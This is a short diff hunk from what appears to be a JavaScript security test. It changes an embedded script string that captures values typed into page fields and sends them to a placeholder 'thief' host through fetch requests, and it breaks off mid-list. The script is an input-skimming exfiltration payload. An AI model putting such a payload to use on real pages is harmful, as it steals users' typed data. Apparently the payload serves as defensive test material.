@@ -138,7 +138,7 @@ const barred = [
 
 /** A script that looks for what is typed and carries it off in every way there is. */
 const stealing = `
-  addEventListener('input', ({ target }) => {
+  addEventListener('change', ({ target }) => {
     const loot = '${thief}/?' + encodeURIComponent(target.value)
     const attempts = [
       () => fetch(loot, { mode: 'no-cors', keepalive: true }).catch(() => undefined),
